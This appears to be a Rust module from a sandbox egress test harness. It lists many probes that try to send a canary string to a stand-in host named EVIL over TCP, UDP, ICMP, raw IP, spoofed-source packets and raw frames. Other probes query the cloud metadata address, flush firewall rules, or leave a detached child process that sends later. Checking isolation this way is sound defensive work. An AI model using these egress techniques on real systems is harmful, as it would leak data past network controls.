//! Packets by every way that the kernel has for an ordinary program. What needs privileges stands in [`super::raw`].

use std::io::{self, IoSlice};
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV4, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::process::{Command, Stdio};
use std::thread;
use std::time::Duration;

use nix::sys::socket::{MsgFlags, MultiHeaders, SockaddrIn, sendmmsg, sendto, setsockopt, sockopt};
use rustix::net::{AddressFamily, Protocol, SocketType};

use super::effects::socket;
use super::{Ctx, Failed, Run, hook, raw, send, target};

const HIGH: u16 = 9999;
const TCP: u16 = 9000;
const UDPLITE: u32 = 136;
/// `AF_NETLINK` of linux/socket.h.
const NETLINK: u16 = 16;

pub(super) const CODE: &[(&str, Run)] = &[
    ("ip-tcp", |c| send::tcp((target::EVIL, TCP), c.canary.as_bytes())),
    ("ip-tcp-ssh", |c| {
        let mut stream = send::connect((target::EVIL, 22))?;
        send::hear(&mut stream)?;
        send::talk(stream, c.canary.as_bytes())
    }),
    ("ip-tcp-fast-open", |c| {
        let fd = socket(AddressFamily::INET, SocketType::STREAM, None)?;
        let to = SockaddrIn::from(SocketAddrV4::new(target::EVIL, TCP));
        setsockopt(&fd, sockopt::SendTimeout, &nix::sys::time::TimeVal::new(1, 500_000))?;
        sendto(
            fd.as_raw_fd(),
            c.canary.as_bytes(),
            &to,
            MsgFlags::from_bits_retain(nix::libc::MSG_FASTOPEN),
        )?;
        thread::sleep(send::ANSWER);
        Ok("sent".to_owned())
    }),
    ("ip-tcp-mapped", |c| {
        let mapped: SocketAddr = (target::EVIL.to_ipv6_mapped(), TCP).into();
        let stream = six(TcpStream::connect_timeout(&mapped, send::CONNECT))?;
        stream.set_read_timeout(Some(send::ANSWER))?;
        send::talk(stream, c.canary.as_bytes())
    }),
    ("ip-udp", |c| send::udp((target::EVIL, HIGH), c.canary.as_bytes())),
    ("ip-udp-connected", |c| {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
        socket.connect((target::EVIL, HIGH))?;
        socket.send(c.canary.as_bytes())?;
        Ok("sent".to_owned())
    }),
    ("ip-udp-many", many),
    ("ip-udp-mapped", |c| {
        let socket = six(UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0)))?;
        six(socket.send_to(c.canary.as_bytes(), (target::EVIL.to_ipv6_mapped(), HIGH)))?;
        Ok("sent".to_owned())
    }),
    ("ip-udp-fragments", |c| {
        let mut bytes = c.canary.clone().into_bytes();
        bytes.resize(4000, b'.');
        send::udp((target::EVIL, HIGH), &bytes)
    }),
    ("ip-udp-dns-source", |c| {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 5353))?;
        socket.send_to(c.canary.as_bytes(), (target::EVIL, 53))?;
        Ok("sent".to_owned())
    }),
    ("ip-quic", |c| {
        let start = [&[0xc3, 0, 0, 0, 1, 8][..], c.canary.as_bytes()].concat();
        send::udp((target::EVIL, 443), &start)
    }),
    ("ip-ntp", |c| send::udp((target::EVIL, 123), &[&[0x23][..], c.canary.as_bytes()].concat())),
    ("ip-udplite", |c| {
        let fd = socket(AddressFamily::INET, SocketType::DGRAM, Some(UDPLITE))?;
        let to = SockaddrIn::from(SocketAddrV4::new(target::EVIL, HIGH));
        sendto(fd.as_raw_fd(), c.canary.as_bytes(), &to, MsgFlags::empty())?;
        Ok("sent".to_owned())
    }),
    ("ip-other-tcp", |c| send::tcp((target::EVIL, TCP), c.canary.as_bytes())),
    ("ip-other-ping", ping),
    ("ip-root-udp", |c| send::udp((target::EVIL, HIGH), c.canary.as_bytes())),
    ("ip-ping", ping),
    ("ip-broadcast", |c| {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
        socket.set_broadcast(true)?;
        socket.send_to(c.canary.as_bytes(), (Ipv4Addr::BROADCAST, HIGH))?;
        Ok("sent".to_owned())
    }),
    ("ip-multicast", |c| send::udp((Ipv4Addr::new(239, 9, 9, 9), HIGH), c.canary.as_bytes())),
    ("ip-metadata", |c| {
        let request = format!("GET /latest/{} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", c.canary);
        send::tcp((target::METADATA, 80), request.as_bytes())
    }),
    ("ip-private", |c| send::tcp((target::PRIVATE, TCP), c.canary.as_bytes())),
    ("ip-carrier", |c| send::tcp((target::CARRIER, TCP), c.canary.as_bytes())),
    ("ip-sink-directly", |c| send::tcp((c.places.sink, TCP), c.canary.as_bytes())),
    ("ip-child", |c| {
        let mut child = Command::new(std::env::current_exe()?);
        child.args(["later", &c.canary]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        child.spawn()?;
        Ok("left behind".to_owned())
    }),
    ("ip-other-uid", |c| send::udp((target::EVIL, HIGH), c.canary.as_bytes())),
    ("ip-root-tcp", |c| send::tcp((target::EVIL, TCP), c.canary.as_bytes())),
    ("ip-root-flush", |c| {
        let said = raw::flush_rules();
        for _ in 0..60 {
            let _ = later(&c.canary);
            thread::sleep(Duration::from_millis(5));
        }
        Ok(said)
    }),
    ("ip-raw-icmp", |c| raw::ip(1, &crate::fakenet::probe::echo_request(c.canary.as_bytes()))),
    ("ip-raw-udp", |c| raw::ip(17, &raw::udp(c.canary.as_bytes()))),
    ("ip-raw-gre", |c| raw::ip(47, &[&[0, 0, 8, 0][..], c.canary.as_bytes()].concat())),
    ("ip-raw-esp", |c| raw::ip(50, &[&[0, 0, 1, 0, 0, 0, 0, 1][..], c.canary.as_bytes()].concat())),
    ("ip-raw-6in4", |c| raw::ip(41, &raw::ipv6(c.canary.as_bytes()))),
    ("ip-raw-253", |c| raw::ip(253, c.canary.as_bytes())),
    ("ip-raw-sctp", |c| raw::ip(132, &[&[0x27, 15, 0x27, 15, 0, 0, 0, 0][..], c.canary.as_bytes()].concat())),
    ("ip-raw-options", |c| {
        let shape = raw::Shape { options: &[1, 1, 1, 1], ..raw::Shape::default() };
        raw::ip_with(17, shape, &raw::udp(c.canary.as_bytes()))
    }),
    ("ip-raw-spoofed", |c| {
        let shape = raw::Shape { source: c.places.envoy, ..raw::Shape::default() };
        raw::ip_with(17, shape, &raw::udp(c.canary.as_bytes()))
    }),
    ("ip-marked", |c| {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
        setsockopt(&socket, sockopt::Mark, &0x636c_6177)?;
        socket.send_to(c.canary.as_bytes(), (target::EVIL, HIGH))?;
        Ok("sent".to_owned())
    }),
    ("ip-foreign-table", |c| hook::turn(50, &c.canary)),
    ("ip-foreign-table-last", |c| hook::turn(i32::MAX, &c.canary)),
    ("ip-packet", |c| raw::frame(&raw::ipv4_frame(&raw::udp(c.canary.as_bytes())))),
    ("ip-packet-dns", |c| {
        let message = super::dns::query(&c.name(), 1);
        raw::frame(&raw::ipv4_frame(&raw::udp_to(53, &message)))
    }),
    ("ip-packet-ipv6", |c| raw::frame(&[&[0x86, 0xdd][..], &raw::ipv6(c.canary.as_bytes())].concat())),
    ("ip-packet-ethertype", |c| raw::frame(&[&[0x88, 0xb5][..], c.canary.as_bytes()].concat())),
    ("ip-packet-vlan", |c| {
        raw::frame(&[&[0x81, 0, 0, 7][..], &raw::ipv4_frame(&raw::udp(c.canary.as_bytes()))].concat())
    }),
    ("socket-packet", |_| opened(AddressFamily::PACKET, SocketType::RAW, None)),
    ("socket-raw", |_| opened(AddressFamily::INET, SocketType::RAW, Some(17))),
    ("socket-alg", |_| opened(AddressFamily::from_raw(38), SocketType::SEQPACKET, None)),
    ("socket-netfilter", |_| opened(AddressFamily::NETLINK, SocketType::RAW, Some(12))),
    ("socket-sctp", |_| opened(AddressFamily::INET, SocketType::STREAM, Some(132))),
    ("socket-dccp", |_| opened(AddressFamily::INET, SocketType::from_raw(6), Some(33))),
    ("socket-xdp", |_| opened(AddressFamily::from_raw(44), SocketType::RAW, None)),
    ("socket-bluetooth", |_| opened(AddressFamily::from_raw(31), SocketType::RAW, Some(1))),
    ("socket-raw-6", |_| opened(AddressFamily::INET6, SocketType::RAW, Some(17))),
    ("socket-vsock", |_| opened(AddressFamily::from_raw(40), SocketType::STREAM, None)),
    // Such a one is made a packet socket by the kernel, whatever family was asked for.
    ("socket-packet-by-inet", |_| opened(AddressFamily::INET, SocketType::from_raw(10), Some(0x0300))),
    ("socket-key", |_| family(15, SocketType::RAW, 2)),
    ("socket-can", |_| family(29, SocketType::RAW, 1)),
    ("socket-tipc", |_| family(30, SocketType::RDM, 0)),
    ("socket-rds", |_| family(21, SocketType::SEQPACKET, 0)),
    ("socket-llc", |_| family(26, SocketType::DGRAM, 0)),
    ("socket-smc", |_| family(43, SocketType::STREAM, 0)),
    ("socket-kcm", |_| family(41, SocketType::DGRAM, 0)),
    ("socket-qipcrtr", |_| family(42, SocketType::DGRAM, 0)),
    ("socket-nfc", |_| family(39, SocketType::SEQPACKET, 0)),
    ("socket-phonet", |_| family(35, SocketType::DGRAM, 0)),
    ("socket-pppox", |_| family(24, SocketType::STREAM, 0)),
    ("socket-ieee802154", |_| family(36, SocketType::DGRAM, 0)),
    ("socket-rxrpc", |_| family(33, SocketType::DGRAM, 2)),
    ("socket-mctp", |_| family(45, SocketType::DGRAM, 0)),
    ("socket-ax25", |_| family(3, SocketType::SEQPACKET, 0)),
    ("socket-x25", |_| family(9, SocketType::SEQPACKET, 0)),
    ("socket-appletalk", |_| family(5, SocketType::DGRAM, 0)),
    ("netlink-diag", |_| family(NETLINK, SocketType::RAW, 4)),
    ("netlink-xfrm", |_| family(NETLINK, SocketType::RAW, 6)),
    ("netlink-audit", |_| family(NETLINK, SocketType::RAW, 9)),
    ("netlink-generic", |_| family(NETLINK, SocketType::RAW, 16)),
    ("netlink-connector", |_| family(NETLINK, SocketType::RAW, 11)),
    ("netlink-uevent", |_| family(NETLINK, SocketType::RAW, 15)),
    ("netlink-crypto", |_| family(NETLINK, SocketType::RAW, 21)),
    ("netlink-fib", |_| family(NETLINK, SocketType::RAW, 10)),
];

/// What a child that was left behind does.
///
/// # Errors
/// The kernel's.
pub fn later(canary: &str) -> std::io::Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.send_to(canary.as_bytes(), (target::EVIL, HIGH)).map(drop)
}

fn ping(c: &Ctx) -> Result<String, Failed> {
    let fd = rustix::net::socket(AddressFamily::INET, SocketType::DGRAM, Some(rustix::net::ipproto::ICMP))?;
    let to = SockaddrIn::from(SocketAddrV4::new(target::EVIL, 0));
    sendto(
        fd.as_raw_fd(),
        &crate::fakenet::probe::echo_request(c.canary.as_bytes()),
        &to,
        MsgFlags::empty(),
    )?;
    Ok("sent".to_owned())
}

fn many(c: &Ctx) -> Result<String, Failed> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    let to = Some(SockaddrIn::from(SocketAddrV4::new(target::EVIL, HIGH)));
    let mut headers = MultiHeaders::<SockaddrIn>::preallocate(3, None);
    let message = [IoSlice::new(c.canary.as_bytes())];
    let all = [message; 3];
    let sent = sendmmsg(socket.as_raw_fd(), &mut headers, all.iter(), [to; 3], [], MsgFlags::empty())?;
    Ok(format!("{} sent", sent.count()))
}

fn opened(family: AddressFamily, kind: SocketType, protocol: Option<u32>) -> Result<String, Failed> {
    socket(family, kind, protocol).map(|_| "it is open".to_owned())
}

/// A family by its number in linux/socket.h; 0 is its usual protocol.
fn family(number: u16, kind: SocketType, protocol: u32) -> Result<String, Failed> {
    opened(AddressFamily::from_raw(number), kind, Some(protocol))
}

/// A container without IPv6 has no socket of it, or no way for it.
fn six<T>(ended: io::Result<T>) -> Result<T, Failed> {
    use nix::libc::{EADDRNOTAVAIL, EAFNOSUPPORT, ENETUNREACH};
    ended.map_err(|error| match error.raw_os_error() {
        Some(EADDRNOTAVAIL | EAFNOSUPPORT | ENETUNREACH) => {
            Failed::Impossible(format!("this container has no IPv6: {error}"))
        }
        _ => error.into(),
    })
}

/// A protocol's number as a type of its own.
pub(super) fn protocol(number: u32) -> Option<Protocol> {
    std::num::NonZeroU32::new(number).map(Protocol::from_raw)
}
